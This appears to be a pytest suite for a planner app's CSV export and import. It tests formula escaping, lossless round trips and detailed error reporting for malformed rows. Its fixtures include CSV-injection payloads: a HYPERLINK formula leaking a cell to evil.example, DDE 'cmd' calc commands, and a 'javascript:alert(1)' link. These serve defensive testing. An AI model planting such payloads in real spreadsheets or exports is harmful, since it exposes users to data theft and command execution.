"""CSV out is spreadsheet-safe; CSV in is validated line by line and loses nothing."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.domain.model import Contact, Direction, Interaction, Kind, Source, Tier
from planner.files.csv_export import (
    CONTACT_COLUMNS,
    contacts_csv_bytes,
    escape_cell,
    ledger_csv_bytes,
    to_csv_bytes,
    unescape_cell,
)
from planner.files.csv_formats import FORMAT_DOC, example_contacts_csv, example_ledger_csv
from planner.files.csv_import import (
    ImportLimits,
    RowProblem,
    parse_contacts_csv,
    parse_ledger_csv,
)
from planner.files.csv_reader import read_records

#: THREATS §2.4 payloads: text cells a spreadsheet would run as formulas.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "-5",
    "+44 20 7946 0958",
    "'=already quoted",
]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- export ---------------------------------------------------------------------------


def test_formula_cells_are_neutralised() -> None:
    data = to_csv_bytes([{"value": v} for v in FORMULAS])
    for payload in FORMULAS:
        assert f'"{escape_cell(payload)}"'.encode() in data.replace(b'""', b'"')
    read = rows_of(data)
    assert len(read) == len(FORMULAS) + 1  # a bare CR did not split a row
    for (cell,), payload in zip(read[1:], FORMULAS, strict=True):
        assert cell == "'" + payload
        assert unescape_cell(cell) == payload


def test_harmless_cells_are_left_alone() -> None:
    for value in (" =1+1", 'a,b "q"\n=1+1', "Jane", "", "1e3", "007", "'plain"):
        assert rows_of(to_csv_bytes([{"v": value}]))[1] == [value]


def test_quote_all_crlf_and_bom() -> None:
    data = to_csv_bytes([{"a": "x", "b": 1}], bom=True)
    assert data == '\ufeff"a","b"\r\n"x","1"\r\n'.encode()
    assert to_csv_bytes([{"a": "x"}]).startswith(b'"a"')


def test_numbers_stay_numbers_and_missing_is_empty() -> None:
    data = to_csv_bytes(
        [
            {"n": -5, "f": -2.5, "whole": 3.0, "b": True, "d": date(2026, 3, 1), "none": None},
            {"n": 7, "f": float("nan"), "whole": 1e20, "b": False, "d": None, "none": None},
        ]
    )
    assert rows_of(data)[1:] == [
        ["-5", "-2.5", "3", "true", "2026-03-01", ""],
        ["7", "", "1e+20", "false", "", ""],
    ]


def test_pandas_frames_with_text_dtype_and_missing_values() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series(["=cmd", None, "Ann"], dtype="str"),
            "reach": pd.Series([1, None, -3], dtype="Int64"),
            "score": [1.5, float("nan"), -0.5],
            "when": pd.to_datetime(["2026-01-02", None, "2026-03-04"]),
        }
    )
    assert rows_of(to_csv_bytes(frame)) == [
        ["name", "reach", "score", "when"],
        ["'=cmd", "1", "1.5", "2026-01-02T00:00:00"],
        ["", "", "", ""],
        ["Ann", "-3", "-0.5", "2026-03-04T00:00:00"],
    ]


def test_sequences_need_columns() -> None:
    assert rows_of(to_csv_bytes([("a", 1)], columns=["x", "y"])) == [["x", "y"], ["a", "1"]]
    with pytest.raises(ValueError, match="columns"):
        to_csv_bytes([("a", 1)])


@given(st.text())
def test_escape_is_exactly_reversible(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text
    assert escape_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


@settings(max_examples=200)
@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_export_read_back_is_lossless(rows: list[list[str]]) -> None:
    data = to_csv_bytes(rows, columns=["a", "b", "c"])
    records, unclosed = read_records(data.decode("utf-8"))
    assert unclosed is None
    assert [[unescape_cell(f) for f in r.fields] for r in records[1:]] == rows


# --- import: the happy path ---------------------------------------------------------------


def test_example_files_are_valid() -> None:
    contacts = parse_contacts_csv(example_contacts_csv())
    assert contacts.ok, contacts.problems
    assert [c.name for c in contacts.rows] == ["Jane Doe", "Doe, John", "Ana Lima"]
    jane = contacts.rows[0]
    assert jane.aliases == ("Jane D.", "J. Doe") and jane.handles == ("@janedoe",)
    assert jane.tier is Tier.ACTIVE and jane.reach == 12000 and jane.line == 2
    ledger = parse_ledger_csv(example_ledger_csv(), {c.name for c in contacts.rows})
    assert ledger.ok, ledger.problems
    assert ledger.rows[0].kind is Kind.INTERVIEW and ledger.rows[0].occurred_on == date(2026, 3, 2)
    assert ledger.rows[3].contact == ""  # the audience


def test_format_doc_names_every_column_and_kind() -> None:
    for column in (*CONTACT_COLUMNS, "direction", "magnitude", "link"):
        assert f"| {column} |" in FORMAT_DOC
    for kind in Kind:
        assert kind.value in FORMAT_DOC


def test_only_name_is_required_and_defaults_apply() -> None:
    report = parse_contacts_csv(b"name\r\nAnn\r\n")
    assert report.ok and report.rows[0].tier is Tier.NETWORK and report.rows[0].reach is None


def test_values_stay_text() -> None:
    data = b'name,handles,notes\n007,1e3,NA\n"1e3",NA|007,"007"\n'
    report = parse_contacts_csv(data)
    assert report.ok, report.problems
    assert [(r.name, r.handles, r.notes) for r in report.rows] == [
        ("007", ("1e3",), "NA"),
        ("1e3", ("NA", "007"), "007"),
    ]


def test_bom_is_handled() -> None:
    report = parse_contacts_csv(b"\xef\xbb\xbfemail,name\r\na@x.com,Ann\r\n")
    assert report.ok and report.rows[0].email == "a@x.com" and report.encoding == "utf-8"


def test_cp1252_falls_back_with_a_warning() -> None:
    report = parse_contacts_csv("name,notes\nJosé,café\n".encode("cp1252"))
    assert report.ok
    assert report.rows[0].name == "José" and report.encoding == "cp1252"
    assert "line 2" in report.warnings[0] and "0xE9" in report.warnings[0]


def test_multiline_cells_keep_physical_line_numbers() -> None:
    data = b'name,notes\r\nAnn,"one\r\ntwo\r\nthree"\r\nBob,x\r\n\r\nCy,bad\x00\r\n'
    report = parse_contacts_csv(data)
    assert [r.line for r in report.rows] == [2, 5]
    assert report.rows[0].notes == "one\r\ntwo\r\nthree"
    assert report.problems == [RowProblem(7, "notes", report.problems[0].problem)]
    assert report.records == 3 and not report.ok


def test_formula_escapes_from_our_export_are_undone() -> None:
    report = parse_contacts_csv(b"name,handles,notes\n'=cmd,'@jane,'-5\n")
    assert report.ok
    row = report.rows[0]
    assert (row.name, row.handles, row.notes) == ("=cmd", ("@jane",), "-5")


# --- import: every kind of bad input, each with its line and column ----------------------


def problems(report) -> list[tuple[int, str]]:
    return [(p.line, p.column) for p in report.problems]


@pytest.mark.parametrize(
    ("data", "expected", "message"),
    [
        pytest.param(
            b'name,email\nAnn,a@x.com\n"Bob,b@x.com\nCy,c@x.com\nDi,d@x.com\n',
            [(3, "name")],
            "never closed; the remaining 3 line(s)",
            id="unbalanced-quote",
        ),
        pytest.param(
            b"name,email\nAnn,a@x.com\nBob,b@x.com,EXTRA\n",
            [(3, "")],
            "3 fields, but the header has 2 (extra value 'EXTRA')",
            id="extra-field",
        ),
        pytest.param(
            b"name,email\nAnn\n",
            [(2, "")],
            "only 1 fields, but the header has 2",
            id="missing-field",
        ),
        pytest.param(
            b"email,email,name\na@x.com,b@x.com,Ann\n",
            [(1, "email")],
            "appears twice",
            id="duplicate-header",
        ),
        pytest.param(
            b"name,emial\nAnn,a@x.com\n",
            [(1, "emial")],
            "did you mean 'email'?",
            id="unknown-header",
        ),
        pytest.param(b"email\na@x.com\n", [(1, "name")], "required column", id="missing-name"),
        pytest.param(
            b"name,notes\nAnn,ok\nBob," + b"x" * 200_000 + b"\n",
            [(3, "notes")],
            "200,000 characters; the limit for notes is 10,000",
            id="huge-field",
        ),
        pytest.param(b"name,notes\nAnn,1\x002\n", [(2, "notes")], "NUL byte", id="nul"),
        pytest.param(b'name\nA"nn\n', [(2, "name")], "quote", id="stray-quote"),
        pytest.param(b'name\n"Ann"x\n', [(2, "name")], "after a closing quote", id="after-quote"),
        pytest.param(b"name,tier\nAnn,vip\n", [(2, "tier")], "not a tier", id="bad-tier"),
        pytest.param(b"name,reach\nAnn,-5\n", [(2, "reach")], "negative", id="negative-reach"),
        pytest.param(b"name,reach\nAnn,1e3\n", [(2, "reach")], "whole number", id="1e3-reach"),
        pytest.param(b"name,reach\nAnn,lots\n", [(2, "reach")], "whole number", id="text-reach"),
        pytest.param(b"name,email\nAnn,ann@\n", [(2, "email")], "e-mail", id="bad-email"),
        pytest.param(
            b"name,email\nAnn,a@x.com\nann,b@x.com\nBob,A@X.COM\n",
            [(3, "name"), (4, "email")],
            "same name as line 2",
            id="duplicates-in-file",
        ),
        pytest.param(b"name\n\n", [], "", id="header-only-is-fine"),
        pytest.param(b"name,domains\nAnn,not a domain\n", [(2, "domains")], "domain", id="domain"),
        pytest.param(b"name,handles\nAnn,@a b\n", [(2, "handles")], "no spaces", id="handle"),
        pytest.param(b"name\nAnn\x07\n", [(2, "name")], "U+0007", id="control-char"),
        pytest.param(b'name\n"Ann\nBob"\n', [(2, "name")], "line breaks", id="newline-in-name"),
        pytest.param(b"", [(1, "")], "empty", id="empty-file"),
        pytest.param(b"name;email\nAnn;a@x.com\n", [(1, "")], "';'", id="semicolons"),
        pytest.param("name\nAnn\n".encode("utf-16"), [(1, "")], "UTF-16", id="utf16"),
        pytest.param(b"PK\x03\x04rest", [(1, "")], "workbook", id="xlsx"),
        pytest.param(b"name\n\x81\x8d\n", [(2, "")], "neither UTF-8 nor", id="not-cp1252"),
    ],
)
def test_bad_contact_files(data: bytes, expected: list[tuple[int, str]], message: str) -> None:
    report = parse_contacts_csv(data)
    assert problems(report) == expected, report.problems
    assert report.ok is (not expected)
    if message:
        assert message in report.problems[0].problem
        assert str(report.problems[0]).startswith(f"line {expected[0][0]}")


def test_bad_rows_are_reported_never_dropped() -> None:
    data = (
        b"name,email,reach\n"
        b"Ann,a@x.com,10\n"  # 2 ok
        b"Bob,bad,10\n"  # 3 email
        b"Cy,c@x.com,ten,extra\n"  # 4 field count
        b",d@x.com,\n"  # 5 name missing
        b",,\n"  # 6 blank: not a row
        b"Di,f@x.com,-1\n"  # 7 reach
        b"Ed,e@x.com,5\n"  # 8 ok
    )
    report = parse_contacts_csv(data)
    assert [r.line for r in report.rows] == [2, 8]
    assert problems(report) == [(3, "email"), (4, ""), (5, "name"), (7, "reach")]
    assert report.records == 6 and len(report.rows) + 4 == report.records
    assert not report.ok


def test_problem_list_is_capped_but_counted() -> None:
    data = b"name,reach\n" + b"".join(b"A%d,x\n" % i for i in range(20))
    report = parse_contacts_csv(data, limits=ImportLimits(max_problems=5))
    assert len(report.problems) == 5 and report.problems_not_listed == 15 and not report.ok


def test_row_and_size_limits() -> None:
    data = b"name\n" + b"".join(b"A%d\n" % i for i in range(5))
    report = parse_contacts_csv(data, limits=ImportLimits(max_rows=3))
    assert (report.problems[-1].line, "more than 3 rows") == (5, report.problems[-1].problem[:16])
    report = parse_contacts_csv(data, limits=ImportLimits(max_bytes=10))
    assert "limit is 10" in report.problems[0].problem


# --- ledger ---------------------------------------------------------------------------------

LEDGER_HEADER = b"contact,direction,kind,date,magnitude,note,title,link\n"


@pytest.mark.parametrize(
    ("row", "column", "message"),
    [
        (b"Jane Doe,gave,interview,2026-13-01,1,,,", "date", "not a real date"),
        (b"Jane Doe,gave,interview,01/03/2026,1,,,", "date", "YYYY-MM-DD"),
        (b"Jane Doe,gave,interview,20260301,1,,,", "date", "YYYY-MM-DD"),
        # the stored-date window of planner.domain.values, as the ledger form applies it
        (b"Jane Doe,gave,interview,9999-12-31,1,,,", "date", "after 2199-12-31"),
        (b"Jane Doe,gave,interview,1969-12-31,1,,,", "date", "before 1970-01-01"),
        (b"Jane Doe,gave,interveiw,2026-03-01,1,,,", "kind", "did you mean 'interview'?"),
        (b"Jane Doe,gave,bribe,2026-03-01,1,,,", "kind", "not a kind"),
        (b"Jane Doe,given,share,2026-03-01,1,,,", "direction", "gave, received"),
        (b"Jane Doe,gave,share,2026-03-01,-1,,,", "magnitude", "negative"),
        (b"Jane Doe,gave,share,2026-03-01,lots,,,", "magnitude", "not a number"),
        (b"Jane Doe,gave,share,2026-03-01,0,,,", "magnitude", "greater than 0"),
        (b"Jane Doe,gave,share,2026-03-01,1e9,,,", "magnitude", "not a number"),
        (b"Jane Doe,gave,share,2026-03-01,5000,,,", "magnitude", "a typo?"),
        (b"Jane Doe,gave,share,2026-03-01,1,,,javascript:alert(1)", "link", "http(s)"),
        (b"Jane Dough,gave,share,2026-03-01,1,,,", "contact", "did you mean 'Jane Doe'?"),
        (b"Jane Doe,gave,,2026-03-01,1,,,", "kind", "required"),
    ],
)
def test_bad_ledger_rows(row: bytes, column: str, message: str) -> None:
    data = LEDGER_HEADER + b"Jane Doe,gave,share,2026-03-01,,,,\n" + row + b"\n"
    report = parse_ledger_csv(data, {"Jane Doe", "John"})
    assert problems(report) == [(3, column)], report.problems
    assert message in report.problems[0].problem
    assert len(report.rows) == 1 and report.rows[0].magnitude == 1.0


def test_ledger_is_lenient_where_it_is_safe() -> None:
    data = LEDGER_HEADER + b"jane doe,Received,Guest Post,2026-03-01,2.5,n,t,https://x.example/a\n"
    report = parse_ledger_csv(data, {"Jane Doe"})
    assert report.ok, report.problems
    row = report.rows[0]
    assert (row.direction, row.kind, row.magnitude) == (Direction.RECEIVED, Kind.GUEST_POST, 2.5)
    assert parse_ledger_csv(data, None).ok  # no contact check at all


def test_ledger_needs_its_columns() -> None:
    report = parse_ledger_csv(b"contact,kind\nJane,share\n")
    assert problems(report) == [(1, "direction"), (1, "date")]


# --- round trips ----------------------------------------------------------------------------


def test_contacts_export_import_round_trip() -> None:
    contacts = [
        Contact(
            id=1,
            name='=HYPERLINK("http://evil.example")',
            aliases=("-5", "+44 20"),
            email="a@x.example",
            domains=("x.example", "y.example"),
            handles=("@evil",),
            tier=Tier.DEEP,
            reach=12000,
            tags=("=tag", "007"),
            notes='line one\r\nline two, with "quotes"\n@end',
        ),
        Contact(id=2, name="Doe, Jane", notes="'already apostrophe"),
        Contact(id=3, name="Zoë Ünïcode", reach=0),
    ]
    for bom in (False, True):
        report = parse_contacts_csv(contacts_csv_bytes(contacts, bom=bom))
        assert report.ok, report.problems
        for row, original in zip(report.rows, contacts, strict=True):
            assert (row.name, row.aliases, row.email, row.domains, row.handles) == (
                original.name,
                original.aliases,
                original.email,
                original.domains,
                original.handles,
            )
            assert (row.tier, row.reach, row.tags, row.notes) == (
                original.tier,
                original.reach,
                original.tags,
                original.notes,
            )


def test_ledger_export_import_round_trip() -> None:
    rows = [
        Interaction(
            1,
            1,
            Direction.GAVE,
            Kind.INTERVIEW,
            date(2026, 3, 2),
            1.0,
            Source.FEED,
            "",
            "=Ep 42",
            "https://givefirst.example/ep42",
        ),
        Interaction(2, 2, Direction.RECEIVED, Kind.SHARE, date(2026, 3, 4), 2.5, note="-great-"),
        Interaction(3, None, Direction.GAVE, Kind.FREE_REPORT, date(2026, 2, 1), title="Kit"),
    ]
    names = {1: "Jane Doe", 2: "+John"}
    report = parse_ledger_csv(ledger_csv_bytes(rows, names), set(names.values()))
    assert report.ok, report.problems
    back = [
        (r.contact, r.direction, r.kind, r.occurred_on, r.magnitude, r.note, r.title, r.link)
        for r in report.rows
    ]
    assert back == [
        (
            names[i.contact_id] if i.contact_id else "",
            i.direction,
            i.kind,
            i.occurred_on,
            i.magnitude,
            i.note,
            i.title,
            i.link,
        )
        for i in rows
    ]
    with pytest.raises(KeyError):
        ledger_csv_bytes(rows, {1: "Jane Doe"})


# --- no input makes the parsers fail -----------------------------------------------------

CSVISH = st.text(alphabet=st.sampled_from(list("ab,\"\r\n \t'=-|@\x00é;")), max_size=200)


@settings(max_examples=300)
@given(st.one_of(st.binary(max_size=300), CSVISH.map(lambda t: ("name,notes\n" + t).encode())))
def test_any_bytes_give_a_report_not_an_exception(data: bytes) -> None:
    for report in (parse_contacts_csv(data), parse_ledger_csv(data, {"a"})):
        assert all(p.line >= 1 for p in report.problems)
        assert report.ok == (not report.problems and len(report.rows) == report.records)
        assert len(report.rows) <= report.records
        lines = data.count(b"\n") + data.count(b"\r") + 1
        assert all(r.line <= lines for r in report.rows)


def test_reach_with_thousands_separators() -> None:
    report = parse_contacts_csv(b'name,reach\nAnn,"12,000"\nBob,1234567\n')
    assert [r.reach for r in report.rows] == [12000, 1234567]


@pytest.mark.parametrize(
    "text",
    [
        "a,b,c\r\n1,2,3\r\n",
        "a,b\n1,\n,2\n\n3,4",
        'a,b\r1,"x\r\ny"\r2,3,\r',
        'a,"b""c"\n"1",2\nno "quote",3\n4,5',
        "a,b,",
    ],
)
def test_the_reader_fast_path_agrees_with_the_field_by_field_parse(text: str) -> None:
    """Lines without quotes are split whole; with a quote anywhere the slow path reads it.
    Forcing the slow path everywhere (one quote-free line at a time) gives the same records."""
    import planner.files.csv_reader as reader

    fast, unclosed = read_records(text)
    saved = reader._PLAIN_LINE
    try:
        reader._PLAIN_LINE = re.compile(r"(?!)")  # never matches: field by field only
        slow, slow_unclosed = read_records(text)
    finally:
        reader._PLAIN_LINE = saved
    assert [(r.line, r.fields, r.problem) for r in fast] == [
        (r.line, r.fields, r.problem) for r in slow
    ]
    assert unclosed == slow_unclosed
